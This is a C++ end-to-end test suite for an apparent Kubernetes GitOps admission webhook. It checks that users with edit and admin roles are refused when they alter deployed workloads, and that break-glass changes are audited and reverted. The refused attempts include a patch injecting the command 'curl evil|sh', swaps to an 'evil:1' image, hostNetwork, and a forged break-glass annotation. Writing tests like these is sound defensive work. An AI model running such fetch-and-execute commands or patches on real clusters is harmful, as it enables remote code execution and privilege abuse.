// Issue #15, closed by construction, as the threat model says: real users
// bound to Kubernetes' built-in `edit` and `admin` ClusterRoles in a `deny`
// namespace try, through the real apiserver and kubectl, everything that
// would change what runs; each attempt is refused, and the refusal names the
// field or kind and where to commit instead. A break-glass member makes the
// same kind of change, and git (all of it) is put back after the TTL. The
// controllers that keep the namespace running are never refused.
#include <gtest/gtest.h>

#include <thread>

#include "kube/util.h"
#include "support/cluster.h"
#include "support/operator.h"
#include "support/webhook.h"

namespace cairn::e2e {
namespace {

using namespace std::chrono_literals;
namespace res = kube::res;

const kube::ApiResource kRoleBindings{"rbac.authorization.k8s.io", "v1", "rolebindings",
                                      "RoleBinding", true};
const kube::ApiResource kClusterRoles{"rbac.authorization.k8s.io", "v1", "clusterroles",
                                      "ClusterRole", false};
const kube::ApiResource kClusterRoleBindings{"rbac.authorization.k8s.io", "v1",
                                             "clusterrolebindings", "ClusterRoleBinding", false};
const kube::ApiResource kReplicaSets{"apps", "v1", "replicasets", "ReplicaSet", true};

json binding(const std::string& name, const std::string& role, const std::string& kind,
             const std::string& subject) {
  return {{"apiVersion", "rbac.authorization.k8s.io/v1"},
          {"kind", "RoleBinding"},
          {"metadata", {{"name", name}}},
          {"roleRef",
           {{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "ClusterRole"}, {"name", role}}},
          {"subjects",
           json::array(
               {{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", kind}, {"name", subject}}})}};
}

// The cluster-wide pieces: Releases and Pipelines aggregated into the
// built-in roles (as the chart's cairn-edit does), and the platform group.
struct ClusterPieces {
  ClusterPieces() {
    (void)client().create(
        kClusterRoles, "",
        {{"apiVersion", "rbac.authorization.k8s.io/v1"},
         {"kind", "ClusterRole"},
         {"metadata",
          {{"name", "cairn-e2e-closed-edit"},
           {"labels",
            {{"rbac.authorization.k8s.io/aggregate-to-edit", "true"},
             {"rbac.authorization.k8s.io/aggregate-to-admin", "true"}}}}},
         {"rules", json::array({{{"apiGroups", json::array({"cairn.dev"})},
                                 {"resources", json::array({"pipelines", "releases"})},
                                 {"verbs", json::array({"get", "list", "watch", "create", "update",
                                                        "patch", "delete"})}}})}});
    (void)client().create(kClusterRoleBindings, "",
                          {{"apiVersion", "rbac.authorization.k8s.io/v1"},
                           {"kind", "ClusterRoleBinding"},
                           {"metadata", {{"name", "cairn-e2e-closed-platform"}}},
                           {"roleRef",
                            {{"apiGroup", "rbac.authorization.k8s.io"},
                             {"kind", "ClusterRole"},
                             {"name", "cluster-admin"}}},
                           {"subjects", json::array({{{"apiGroup", "rbac.authorization.k8s.io"},
                                                      {"kind", "Group"},
                                                      {"name", "cairn:platform"}}})}});
  }
  ~ClusterPieces() {
    (void)client().remove(kClusterRoles, "", "cairn-e2e-closed-edit");
    (void)client().remove(kClusterRoleBindings, "", "cairn-e2e-closed-platform");
  }
};

const char* kExtra = R"(apiVersion: v1
kind: ServiceAccount
metadata: {name: app}
)";

// A deny namespace, a Release deployed from git by the operator, and the
// people: alice (edit), adam (admin), bob (edit, break-glass), pat (the
// platform group), the cluster's own admin (system:masters: not the
// platform here).
struct Closed {
  explicit Closed(const std::string& prefix, const std::string& release_extra = "")
      : ns(prefix, {{"cairn.dev/enforce", "deny"}}),
        repo("closed-" + ns.name()),
        a(repo.commit(
            {{"deploy/app.yaml", web_app_yaml("web:1", true)}, {"deploy/extra.yaml", kExtra}},
            "A: web")),
        hook({"--platform-group", "cairn:platform"}) {
    ensure_operator_identity();
    // Who may do what is RBAC's (bound before the webhook governs them).
    for (const auto& [name, role, kind, who] :
         {std::tuple{"alice-edit", "edit", "User", "alice"},
          {"adam-admin", "admin", "User", "adam"},
          {"glass-edit", "edit", "Group", "cairn:break-glass"}})
      EXPECT_TRUE(client().create(kRoleBindings, ns.name(), binding(name, role, kind, who)));
    alice = kubeconfig_for("alice", "developers");
    adam = kubeconfig_for("adam", "developers");
    bob = kubeconfig_for("bob", "cairn:break-glass");
    pat = kubeconfig_for("pat", "cairn:platform");
    op_user = kubeconfig_for("cairn-operator", "");
    hook.register_with_apiserver("cairn-e2e-" + ns.name(), ns.name());
    op = std::make_unique<OperatorProcess>(
        ns.name(), std::vector<std::string>{"--kubeconfig", op_user, "--break-glass-ttl", "6s"});
    auto r = as(pat, "apply -f -", R"(apiVersion: cairn.dev/v1alpha1
kind: Release
metadata: {name: app}
spec:
  source: {url: ")" + repo.git_url() + R"(", branch: main, interval: 10s}
  path: deploy
  rollout: {progressDeadline: 30s}
)" + release_extra);
    EXPECT_EQ(r.first, 0) << r.second;
  }
  std::pair<int, std::string> as(const std::string& kubeconfig, const std::string& args,
                                 const std::string& in = "") const {
    return kubectl("--kubeconfig " + kubeconfig + " -n " + ns.name() + " " + args, in);
  }
  std::string where() const {
    return "ns " + ns.name() + "\nwebhook log:\n" + hook.log_tail() + "\noperator log:\n" +
           op->log_tail();
  }

  ClusterPieces pieces;
  TestNamespace ns;
  GitRepo repo;
  std::string a;
  WebhookProcess hook;
  std::string alice, adam, bob, pat, op_user;
  std::unique_ptr<OperatorProcess> op;
};

// `r` was refused by Cairn, naming `what` and where to commit.
void expect_refused(const Closed& c, const std::pair<int, std::string>& r, const std::string& who,
                    const std::string& attempt, const std::string& what,
                    bool names_repository = true) {
  SCOPED_TRACE(who + ": " + attempt);
  EXPECT_NE(r.first, 0) << "admitted:\n" << r.second;
  EXPECT_NE(r.second.find("denied the request: Cairn"), std::string::npos)
      << "not refused by Cairn:\n"
      << r.second;
  EXPECT_NE(r.second.find(what), std::string::npos) << "does not name " << what << ":\n"
                                                    << r.second;
  if (names_repository) {
    EXPECT_NE(r.second.find(c.repo.git_url()), std::string::npos) << r.second;
    EXPECT_NE(r.second.find("Release " + c.ns.name() + "/app"), std::string::npos) << r.second;
  }
}

std::string patch(const std::string& kind, const std::string& name, const std::string& json_patch) {
  return "patch " + kind + " " + name + " --type=json -p '" + json_patch + "'";
}

TEST(Closed, EditAndAdminCannotChangeWhatRuns) {
  Closed c("e2e-closed");
  const std::string& ns = c.ns.name();
  auto deployed = wait_release(ns, c.a, "Deployed", 90s, "app");
  ASSERT_TRUE(deployed) << deployed.error().to_string() << "\n" << c.where();
  // A Pipeline the platform created, and a commit older than the deployed one.
  ASSERT_EQ(c.as(c.pat, "apply -f -", R"(apiVersion: cairn.dev/v1alpha1
kind: Pipeline
metadata: {name: ci}
spec:
  source: {url: ")" + c.repo.git_url() + R"(", branch: main, interval: 10m}
  steps:
  - {name: test, image: debian, script: "make test"}
)")
                .first,
            0);
  std::string b = c.repo.commit({{"deploy/app.yaml", web_app_yaml("web:2", true)}}, "B: web 2");
  ASSERT_TRUE(wait_release(ns, b, "Deployed", 90s, "app")) << c.where();
  auto rs_list = client().list(kReplicaSets, ns);
  ASSERT_TRUE(rs_list && !(*rs_list)["items"].empty());
  const std::string rs = (*rs_list)["items"][0]["metadata"].value("name", "");
  // kubectl refuses to exec into a pod that is not running before the
  // webhook is asked: a running one (the rollout to B leaves old pods behind).
  std::string pod;
  for (auto until = std::chrono::steady_clock::now() + 60s;
       pod.empty() && std::chrono::steady_clock::now() < until;
       std::this_thread::sleep_for(200ms)) {
    auto pods = client().list(res::kPods, ns);
    ASSERT_TRUE(pods) << pods.error().to_string();
    for (const auto& p : (*pods)["items"])
      if (p.value("status", json::object()).value("phase", "") == "Running" &&
          !p["metadata"].contains("deletionTimestamp"))
        pod = p["metadata"].value("name", "");
  }
  ASSERT_FALSE(pod.empty()) << "no running pod in " << ns << "\n" << c.where();

  const std::string older =
      "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\n  annotations:\n"
      "    cairn.dev/commit: \"" +
      c.a + "\"\n    cairn.dev/source: \"" + c.repo.git_url() +
      "\"\n    cairn.dev/path: deploy/app.yaml\n    cairn.dev/release: " + ns +
      "/app\n  labels: {app.kubernetes.io/managed-by: cairn}\ndata: {greeting: hello}\n";
  struct Attempt {
    std::string name, args, stdin_text, expect;
    bool names_repository = true;
  };
  const std::vector<Attempt> attempts = {
      // fields git sets
      {"another image", "set image deployment/web web=evil:1", "", "containers[0].image"},
      {"kubectl scale", "scale deployment web --replicas=0", "", "spec.replicas"},
      // fields git does not set: container, pod, object, metadata
      {"a command",
       patch(
           "deployment", "web",
           R"([{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}])"),
       "", "containers[0].command"},
      {"an env var", "set env deployment/web EXTRA=1", "", "containers[0].env"},
      {"an initContainer",
       patch(
           "deployment", "web",
           R"([{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"x"}]}])"),
       "", "initContainers"},
      {"hostNetwork",
       patch("deployment", "web",
             R"([{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}])"),
       "", "hostNetwork"},
      {"another serviceAccountName",
       patch("deployment", "web",
             R"([{"op":"add","path":"/spec/template/spec/serviceAccountName","value":"app"}])"),
       "", "serviceAccountName"},
      {"a pod-template label",
       patch("deployment", "web",
             R"([{"op":"add","path":"/spec/template/metadata/labels/extra","value":"1"}])"),
       "", "spec.template.metadata.labels.extra"},
      {"kubectl rollout restart", "rollout restart deployment/web", "", "restartedAt"},
      {"a label", "label deployment web team=x", "", "metadata.labels.team"},
      {"a new ConfigMap key",
       patch("configmap", "web-config", R"([{"op":"add","path":"/data/extra","value":"1"}])"), "",
       "data.extra was added"},
      // the garbage collector cannot be borrowed
      {"an ownerReference to a missing owner",
       patch(
           "configmap", "web-config",
           R"([{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"4f1c1b52-0000-4000-8000-000000000000"}]}])"),
       "", "metadata.ownerReferences"},
      // fake break-glass
      {"the break-glass annotation", "annotate deployment web cairn.dev/break-glass=INC-1", "",
       "may be set only by members of cairn:break-glass"},
      // an older commit, stamped by hand
      {"an older commit's manifest", "apply -f -", older, "cairn.dev/commit"},
      // objects git never had, kinds outside the old list
      {"a ConfigMap git never had", "create configmap extra --from-literal=a=b", "",
       "was never in git"},
      {"a Secret", "create secret generic token --from-literal=a=b", "", "was never in git"},
      {"a bare Pod", "run shell --image=debian --restart=Never -- sleep 1", "", "a bare Pod",
       false},
      {"a Job", "create job oneoff --image=debian -- true", "", "Job", false},
      {"an HPA that pins replicas", "autoscale deployment web --min=1 --max=1", "",
       "was never in git"},
      {"a new image in a ReplicaSet",
       patch(
           "replicaset", rs,
           R"([{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil:1"}])"),
       "", "managed by Kubernetes' controllers", false},
      // delete
      {"a delete", "delete configmap web-config", "", "can only be deleted through git"},
      // Releases and Pipelines by hand
      {"a Release", "apply -f -",
       "apiVersion: cairn.dev/v1alpha1\nkind: Release\nmetadata: {name: mine}\nspec:\n  source: "
       "{url: \"" +
           c.repo.git_url() + "\", branch: main}\n  path: deploy\n",
       "come from git", false},
      {"a Release pointed elsewhere",
       patch("release", "app", R"([{"op":"replace","path":"/spec/path","value":"other"}])"), "",
       "spec.path"},
      {"the gate Pipeline edited to pass",
       patch("pipeline", "ci",
             R"([{"op":"replace","path":"/spec/steps/0/script","value":"true"}])"),
       "", "spec.steps[0].script", false},
      // exec
      {"exec", "exec " + pod + " -- true", "", "exec into pod", false},
  };
  for (const auto& [who, kubeconfig] :
       {std::pair{"alice (edit)", c.alice}, std::pair{"adam (admin)", c.adam}}) {
    for (const auto& at : attempts)
      expect_refused(c, c.as(kubeconfig, at.args, at.stdin_text), who, at.name, at.expect,
                     at.names_repository);
  }
  // admin may create RoleBindings by RBAC; not here.
  expect_refused(c, c.as(c.adam, "create rolebinding me --clusterrole=admin --user=eve"),
                 "adam (admin)", "a RoleBinding", "was never in git");

  // The operational handles stay open.
  EXPECT_EQ(
      c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":true}}'").first, 0);
  EXPECT_EQ(
      c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":false}}'").first, 0);
  EXPECT_EQ(c.as(c.alice, "annotate pipeline ci cairn.dev/requested-at=now").first, 0);

  // Nothing of it reached the cluster.
  auto d = client().get(res::kDeployments, ns, "web");
  ASSERT_TRUE(d);
  const json& ctr = (*d)["spec"]["template"]["spec"]["containers"][0];
  EXPECT_EQ(ctr.value("image", ""), "web:2");
  EXPECT_FALSE(ctr.contains("env"));
  EXPECT_FALSE(ctr.contains("command"));
  EXPECT_EQ((*d)["spec"].value("replicas", 0), 2);
  auto cm = client().get(res::kConfigMaps, ns, "web-config");
  ASSERT_TRUE(cm);
  EXPECT_FALSE((*cm)["data"].contains("extra"));
  EXPECT_FALSE((*cm)["metadata"].contains("ownerReferences"));
  EXPECT_FALSE(client().get(res::kSecrets, ns, "token"));
  EXPECT_FALSE(client().get(res::kPods, ns, "shell"));

  // Namespace label tricks: even the cluster's admin is not the platform.
  for (const auto& [attempt, args] :
       {std::pair{"removing cairn.dev/enforce", "label namespace " + ns + " cairn.dev/enforce-"},
        {"weakening it to audit", "label namespace " + ns + " cairn.dev/enforce=audit --overwrite"},
        {"posing as kube-system",
         "label namespace " + ns + " kubernetes.io/metadata.name=kube-system"},
        {"deleting it while it holds Releases", "delete namespace " + ns + " --wait=false"}}) {
    auto r = kubectl(args);
    EXPECT_NE(r.first, 0) << attempt << " was admitted:\n" << r.second;
    EXPECT_NE(r.second.find("cairn:platform"), std::string::npos) << attempt << ":\n" << r.second;
  }

  // The webhook's reads failing: a Release whose repository cannot be
  // reached; even the operator's apply is refused, not admitted unverified.
  ASSERT_EQ(c.as(c.pat, "apply -f -",
                 "apiVersion: cairn.dev/v1alpha1\nkind: Release\nmetadata: {name: dark}\nspec:\n"
                 "  source: {url: \"git://127.0.0.1:1/dark.git\", branch: main}\n"
                 "  path: deploy\n  suspend: true\n")
                .first,
            0);
  std::string dark = older;
  for (auto [from, to] : {std::pair{c.repo.git_url(), std::string("git://127.0.0.1:1/dark.git")},
                          {ns + "/app", ns + "/dark"},
                          {"name: web-config", "name: dark-config"}})
    dark.replace(dark.find(from), from.size(), to);
  auto r = c.as(c.op_user, "apply --server-side -f -", dark);
  EXPECT_NE(r.first, 0) << r.second;
  EXPECT_NE(r.second.find("cannot be read"), std::string::npos) << r.second;
}

TEST(Closed, BreakGlassIsAuditedAndGitIsPutBackWhole) {
  Closed c("e2e-glass2", "  selfHeal: false\n");
  const std::string& ns = c.ns.name();
  ASSERT_TRUE(wait_release(ns, c.a, "Deployed", 90s, "app")) << c.where();
  // The same kind of change as above, by a member of cairn:break-glass,
  // with a reason: an env var and a label git does not set, a new key.
  auto r = c.as(c.bob, "patch deployment web -p '" + std::string(R"({
    "metadata": {"annotations": {"cairn.dev/break-glass": "INC-9 debug"}, "labels": {"debug": "on"}},
    "spec": {"template": {"spec": {"containers": [{"name": "web", "env": [{"name": "DEBUG", "value": "1"}]}]}}}})") +
                           "'");
  ASSERT_EQ(r.first, 0) << r.second << "\n" << c.where();
  EXPECT_NE(r.second.find("Warning: Cairn: break-glass"), std::string::npos) << r.second;
  EXPECT_NE(c.hook.log_tail().find("\"audit\":\"true\""), std::string::npos) << c.hook.log_tail();
  auto live = client().get(res::kDeployments, ns, "web");
  ASSERT_TRUE(live);
  ASSERT_TRUE((*live)["spec"]["template"]["spec"]["containers"][0].contains("env"));
  // After the TTL (6 s here), even with selfHeal off, git is put back: the
  // fields bob added are gone, not only the values git sets.
  auto restored = wait_for(
      res::kDeployments, ns, "web",
      [](const json& o) {
        const json md = o.value("metadata", json::object());
        return !md.value("annotations", json::object()).contains("cairn.dev/break-glass") &&
               !md.value("labels", json::object()).contains("debug") &&
               !o["spec"]["template"]["spec"]["containers"][0].contains("env");
      },
      60s);
  EXPECT_TRUE(restored) << restored.error().to_string() << "\n" << c.where();
}

TEST(Closed, TheControllersThatKeepTheNamespaceRunningAreNeverRefused) {
  Closed c("e2e-ctrl");
  const std::string& ns = c.ns.name();
  ASSERT_TRUE(wait_release(ns, c.a, "Deployed", 90s, "app")) << c.where();
  // A StatefulSet (with a volume claim), a DaemonSet, a CronJob and a
  // ServiceAccount from git, and a rollout of the Deployment.
  std::string b = c.repo.commit(
      {{"deploy/app.yaml", web_app_yaml("web:2", true)}, {"deploy/more.yaml", R"(apiVersion: apps/v1
kind: StatefulSet
metadata: {name: db}
spec:
  serviceName: db
  replicas: 1
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec:
      containers: [{name: db, image: "db:1"}]
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: agent}
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      containers: [{name: agent, image: "agent:1"}]
---
apiVersion: batch/v1beta1
kind: CronJob
metadata: {name: tick}
spec:
  schedule: "*/1 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: tick, image: debian, command: ["true"]}]
)"}},
      "B: more workloads");
  auto rolled = wait_release(ns, b, "Deployed", 120s, "app");
  ASSERT_TRUE(rolled) << rolled.error().to_string() << "\n" << c.where();
  // The Deployment controller rolled out a new ReplicaSet and its Pods.
  auto d = wait_for(
      res::kDeployments, ns, "web",
      [](const json& o) {
        const json st = o.value("status", json::object());
        return st.value("updatedReplicas", 0) == 2 && st.value("readyReplicas", 0) == 2;
      },
      60s);
  EXPECT_TRUE(d) << d.error().to_string();
  const kube::ApiResource sts{"apps", "v1", "statefulsets", "StatefulSet", true};
  const kube::ApiResource ds{"apps", "v1", "daemonsets", "DaemonSet", true};
  EXPECT_TRUE(wait_for(
      sts, ns, "db",
      [](const json& o) { return o.value("status", json::object()).value("replicas", 0) == 1; },
      60s));
  EXPECT_TRUE(wait_for(
      ds, ns, "agent",
      [](const json& o) {
        return o.value("status", json::object()).value("currentNumberScheduled", 0) >= 1;
      },
      60s));
  // The token controller gave the ServiceAccount its token Secret.
  EXPECT_TRUE(wait_for(
      res::kServiceAccounts, ns, "app",
      [](const json& o) { return !o.value("secrets", json::array()).empty(); }, 60s));
  // CronJob -> Job -> Pod, by the CronJob and Job controllers.
  const kube::ApiResource jobs{"batch", "v1", "jobs", "Job", true};
  bool job = false;
  for (auto until = std::chrono::steady_clock::now() + 90s;
       !job && std::chrono::steady_clock::now() < until;) {
    auto l = client().list(jobs, ns);
    job = l && !(*l)["items"].empty();
    if (!job) std::this_thread::sleep_for(1s);
  }
  EXPECT_TRUE(job) << "the CronJob made no Job\n" << c.where();
  // Nothing any controller did was refused.
  const std::string m = c.hook.metrics();
  for (const char* rule : {"rule=\"component\"", "rule=\"provenance\""})
    EXPECT_NE(m.find(rule), std::string::npos) << rule << "\n" << m;
  EXPECT_EQ(c.hook.log_tail(20000).find("\"rule\":\"component\""), std::string::npos)
      << "a controller was refused:\n"
      << c.hook.log_tail(20000);
}

}  // namespace
}  // namespace cairn::e2e
